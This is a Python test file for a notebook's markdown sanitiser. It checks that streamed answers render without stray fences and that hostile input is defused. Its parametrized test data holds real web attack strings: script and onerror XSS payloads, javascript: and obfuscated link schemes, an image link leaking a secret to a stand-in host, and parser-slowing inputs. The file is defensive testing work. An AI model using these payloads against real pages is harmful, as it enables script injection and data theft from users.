"""Half-written markdown shows without stray fences; a stranger's markdown does nothing."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from larik_nb.notebook.markdown import closed, finished, plain, safe, whole

ANSWER = """\
# Title

Some *prose* with `code` and $x^2$.

- one
- two

```python
def f():

    return "```"
```

$$
a

b
$$

~~~
tilde
~~~

The end.
"""


def test_finished_blocks_are_never_cut_inside_a_fence_or_formula():
    cut, pieces, rest = 1, [], ANSWER
    while cut:
        cut = finished(rest)
        pieces.append(rest[:cut])
        rest = rest[cut:]
    assert "".join(pieces) + rest == ANSWER

    seen = ""
    for end in range(len(ANSWER)):
        done = ANSWER[: finished(ANSWER[:end])]
        assert done.count("```") in (0, 3)
        assert done.count("$$") in (0, 2)
        assert done.count("~~~") in (0, 2)
        assert len(done) >= len(seen)
        seen = done


@given(st.integers(0, len(ANSWER)))
def test_no_stray_fence_whatever_has_arrived(end: int):
    shown = closed(ANSWER[:end])
    lines = [line for line in shown.splitlines() if line.startswith(("```", "~~~"))]

    assert len(lines) % 2 == 0
    assert shown.count("$$") % 2 == 0


@given(st.text(alphabet="`~ab \n"))
def test_a_text_is_closed_only_once(text: str):
    assert finished(closed(text)) <= len(closed(text))
    assert whole(whole(text)) == whole(text)


@pytest.mark.parametrize(
    "text",
    [
        "a < b and b > c, 1 <2",
        "`<script>`",
        "```html\n<script>alert(1)</script>\n```",
        "line<br>break and H<sub>2</sub>O",
        "<https://example.org/a?b=c>",
        "[a](https://example.org) [b](#part) [c](notes.md) [d](/x) [e](mailto:a@b.c) [f](./x.md) [g]( https://x )",
        "costs $5",
        "$E = mc^2$ and $$x < y$$",
        "plain *text* with | tables |",
        "[1]: https://example.org",
        "array[0](x)",
    ],
)
def test_harmless_markdown_is_left_alone(text: str):
    assert safe(text) == text


@pytest.mark.parametrize(
    ("hostile", "gone"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("<img src=x onerror=alert(1)>", "<img"),
        ("<ScRiPt\n>", "<ScRiPt"),
        ("unclosed <div style='x'>", "<div"),
        ("<!-- hidden", "<!--"),
        ("<sub onclick=x>a</sub>", "<sub"),
        ("[x](javascript:alert(1))", "](javascript"),
        ("[x]( JaVaScRiPt:alert(1))", "]( JaVa"),
        ("[x](<javascript:alert(1)>)", "](<java"),
        ("[x](java&#115;cript:alert(1))", "](java"),
        ("[x](data:text/html;base64,AAAA)", "](data"),
        ("[x]: javascript:alert(1)", "\n[x]: java"),
        ("![x](https://evil.example/leak?q=secret)", "!["),
        ("\x1b[31mred\x1b[0m", "\x1b"),
        ("abc\u202etxt.exe", "\u202e"),
        ("math $a <script> b$", "<script"),
    ],
)
def test_hostile_markdown_is_defused(hostile: str, gone: str):
    result = "\n" + safe(hostile)

    assert gone not in result


def test_the_words_of_a_hostile_text_stay_readable():
    assert safe("see <b>this</b>") == "see &lt;b>this&lt;/b>"
    assert safe("![chart](https://a.example/x.png)") == "[chart](https://a.example/x.png)"


def test_dollars_that_mean_money_are_no_formula():
    assert safe("from $5 to $10") == r"from <span>\$</span>5 to <span>\$</span>10"
    assert safe("it costs $5 where $x$ is") == r"it costs <span>\$</span>5 where $x$ is"


def test_plain_text_loses_only_control_characters():
    assert plain("a\tb\n\x1b[1mc\x1b[0m é 🎉") == "a\tb\nc é 🎉"


@given(st.text(alphabet="<>[]()!`$ab:/\n\\ 1"))
def test_nothing_a_page_would_act_on_survives_outside_code(text: str):
    """Checked by a real renderer: no tag but what markdown itself makes."""
    mistune = pytest.importorskip("mistune")
    html = mistune.create_markdown(escape=False)(safe(text))

    for tag in ("<a", "<b", "<ab", "<ba", "<aa", "<bb"):
        for found in html.split(tag)[1:]:
            assert found.startswith((' href="', "r>", "r />", "lockquote>")), html


IMAGE = "<img src=x onerror=alert(1)>"


@pytest.mark.parametrize(
    "text",
    [
        f"```x`\n{IMAGE}\n",
        f"~~~ x`\n{IMAGE}\n",
        f"- a\n  ```\n{IMAGE}\n",
        f"  ```\nx\n```\n{IMAGE}\n",
        f"```\nx\n```\u00a0\n{IMAGE}\n",
        f"```\nx\n```~~~\n```\n{IMAGE}\n",
        f"a\u2028```\n{IMAGE}",
        f"````````{IMAGE}",
        f"$$\n```\n$$\n{IMAGE}\n```",
        f"$\n ```\n $ {IMAGE}\n ```",
        f"\\`{IMAGE}`",
        f"`\n# {IMAGE} `",
        f"# a `\nb ` c `{IMAGE}`",
        f"<https://x/`> {IMAGE} `",
        f"| a | b |\n|---|---|\n| ` | {IMAGE} ` |",
        f"$`$ {IMAGE} `",
        "> [b]: javascript:alert(1)\n\n[x][b]",
        "[x][a\\]b]\n\n[a\\]b]: javascript:alert(1)",
        "[x][a b]\n\n[a\nb]: javascript:alert(1)",
        "[b]: java&#115;cript:alert(1)\n\n[x][b]",
        "\\[\n[b]: javascript:alert(1)\n\\]\n\n[x][b]",
        "$[x](javascript:alert(1))$",
        "!![a](https://example.com/?leak)",
        "${ ![x](https://example.com/?leak)$",
    ],
)
def test_what_may_be_code_for_some_readers_only_does_nothing_either(text: str) -> None:
    made = safe(text)

    assert not re.search(r"<img|\]\(javascript|(?<!\\)\]:\s*java|!\[", made)


@pytest.mark.parametrize("inside", ["```\n<b>\n```", "`<b>`"])
def test_a_break_that_begins_a_line_makes_no_raw_block_of_what_follows(inside: str) -> None:
    assert safe(f"<br>\n{inside}") == f"&#8203;<br>\n{inside}"
    assert safe(f"> <hr/>\n{inside}") == f"> &#8203;<hr/>\n{inside}"


@pytest.mark.parametrize(
    "text",
    [
        "```html\n<b>\n```\n",
        "1. Run\n   ```bash\n   cat <<EOF $HOME\n   ```\n2. Done\n",
        "````markdown\n```python\nx<y\n```\n````\n",
        "Use `<b>` and ``<i>`` here,\nor `vector<int>`.",
        "| a |\n|---|\n| `<b>` |",
    ],
)
def test_code_that_every_reader_sees_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


@pytest.mark.parametrize("piece", ["\\[", "\\(", "](", "$$ ", "`a ``b ", "[a]: ", "](" + " " * 500, "<br"])
def test_a_text_full_of_openings_is_read_in_one_go(piece: str) -> None:
    assert whole(safe(piece * 40_000))


@pytest.mark.parametrize(
    "text",
    [
        "```a`b\ntext",
        "- ```\n  code\n  ```\nend",
        "1. ```sh\n   ls\n   ```\n2. then",
        "- ~~~\n  cut off",
        "- ```\n  a\n\nend",
    ],
)
def test_what_follows_an_answer_is_never_its_code(text: str) -> None:
    tokens = pytest.importorskip("markdown_it").MarkdownIt().parse(f"{whole(safe(text))}\n\nthe line under it")

    assert tokens[-2].content == "the line under it"
    assert tokens[-3].level == 0


@pytest.mark.parametrize("piece", ["```\n```\n", "~~~\n", "]:", "]:&", "-\n", "#\n", "> \n-\n"])
def test_a_hostile_text_is_read_in_one_go(piece: str) -> None:
    """Hundreds of thousands of characters, which would take many minutes if each looked at all that follow."""
    text = piece * (400_000 // len(piece))
    assert safe(text)
    assert closed(text)


def test_half_a_letter_is_shown_as_one_that_is_missing() -> None:
    """JSON may hold half of a UTF-16 pair; no message to a page can."""
    assert plain("a\ud800b") == "a\ufffdb"
    safe("a\udfff *b* `\ud800`").encode()


@pytest.mark.parametrize("place", ["${}$", "$${}$$", r"\[{}\]", r"\begin{{align}}{}\end{{align}}", "{}", "$1 {}"])
@pytest.mark.parametrize(
    "name", ["def", "gdef", "let", "newcommand", "renewcommand", "require", "href", "DeclareMathOperator"]
)
def test_a_formula_changes_no_formula_after_it(place: str, name: str) -> None:
    """A page has one set of TeX's macros for all its cells."""
    assert rf"\{name}" not in safe(place.format(rf"\{name}\frac#1#2{{gone}}"))
    assert safe(place.format(r"\left(\frac{1}{2}\right)")).endswith(place.format(r"\left(\frac{1}{2}\right)")[-4:])
